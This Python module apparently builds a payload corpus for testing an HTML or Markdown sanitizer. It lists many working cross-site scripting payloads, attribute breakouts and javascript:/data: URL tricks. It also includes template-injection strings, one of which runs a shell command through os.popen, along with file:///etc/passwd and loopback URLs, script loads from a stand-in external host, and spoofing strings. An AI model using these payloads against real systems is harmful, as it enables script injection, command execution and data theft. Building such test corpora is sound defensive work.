"""Texts that try to be more than text: one for every way in that we know of."""

from itertools import product

CALL = "alert(1)"
ELSEWHERE = "https://elsewhere.example/x"

TAGS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\x0b>{CALL}</script>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script src={ELSEWHERE}></script>",
    f'<script src="data:text/javascript,{CALL}"></script>',
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:,{CALL}'/></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<title><img src=x onerror={CALL}></title>",
    f"<textarea><script>{CALL}</script></textarea>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}'; body {{ background: url({ELSEWHERE}) }}</style>",
    f"<form action=javascript:{CALL}><input type=submit></form>",
    f"<form action={ELSEWHERE}><input autofocus onfocus={CALL}></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<isindex action=javascript:{CALL} type=submit>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<picture><source srcset={ELSEWHERE}><img></picture>",
    f"<video poster={ELSEWHERE} src={ELSEWHERE} autoplay></video>",
    f"<audio src={ELSEWHERE} autoplay></audio>",
    f"<table background={ELSEWHERE}><td>x</table>",
    f"<input type=image src={ELSEWHERE}>",
    f"<image src={ELSEWHERE}>",
    f"<x style='background:url({ELSEWHERE})'>x</x>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{CALL}</script>'>]>&y;",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\u2028<script>{CALL}</script>\u2029",
)
EVENTS = (
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle"),
    *("onbegin", "onpageshow", "onpointerenter", "onscrollsnapchange", "onbeforetoggle"),
)
CARRIERS = (
    "<img src=x {0}={1}>",
    "<svg {0}={1}>",
    "<body {0}={1}>",
    "<details open {0}='{1}'>x</details>",
    '<input autofocus {0}="{1}">',
    "<svg><animate {0}={1} attributeName=x dur=1s>",
    "<p/{0}={1}>x</p>",
    "<a\n{0}\n=\n{1}>x</a>",
)
BREAKOUTS = (
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"`><script>{CALL}</script>",
    f'" onmouseover="{CALL}" autofocus onfocus="{CALL}" x="',
    f"' onmouseover='{CALL}' autofocus onfocus='{CALL}' x='",
    f" onerror={CALL} src=x ",
    f"</title><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</content><script>{CALL}</script>",
    f"*/{CALL}/*",
    f"';{CALL};'",
    f'";{CALL};"',
    f"\\';{CALL};//",
    f"${{{CALL}}}",
    f"</bdi><img src=x onerror={CALL}><bdi>",
    f"</a><img src=x onerror={CALL}>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ view.frame.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include 'base.html' %}",
    "{{ lipsum(100000) }}",
    "{# a comment #}",
    "${7*7} #{7*7} <%= 7*7 %> {{{7*7}}} [[${7*7}]]",
    "%(x)s {0} {x!r} %n",
)
SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
    ),
    *("javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:"),
    *("javascript%3A", "%6Aavascript:", "vbscript:", "livescript:", "data:text/html,<script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "blob:", "filesystem:"),
    *("file:///etc/passwd#", "smb://elsewhere.example/", "ms-msdt:/", "jar:", "view-source:"),
    *(
        "feed:javascript:",
        "//elsewhere.example/",
        "\\\\elsewhere.example\\",
        "https:elsewhere.example/",
    ),
    *("http://127.0.0.1:1/", "http://[::1]/", "http://0x7f.1/", "https://elsewhere.example@x/"),
)
FORMS = (
    "[x]({0}{1})",
    "[x](<{0}{1}>)",
    "<{0}{1}>",
    "![x]({0}{1})",
    "[x][r]\n\n[r]: {0}{1}",
    '[x]({0}{1} "title")',
    '<a href="{0}{1}">x</a>',
)
ODDITIES = (
    "\u202ealert(1)\u202c<script>",
    "\u200b<\u200bscript>",
    "A\u0000B".replace("\u0000", "\ufffd"),
    "\U000e0041\U000e0042 tags",
    "\u0430pple \u0440aypal",
    "x" * 5000,
    "a\u0300" * 500,
    "<" * 500,
    "[" * 300 + "x" + "]" * 300,
    "*_" * 300,
    "&" * 300 + ";",
    "`" * 300,
)


def own_payloads() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(
        dict.fromkeys(
            [
                *TAGS,
                *(carrier.format(event, CALL) for carrier, event in product(CARRIERS, EVENTS)),
                *BREAKOUTS,
                *TEMPLATES,
                *(form.format(scheme, CALL) for form, scheme in product(FORMS, SCHEMES)),
                *ODDITIES,
            ]
        )
    )
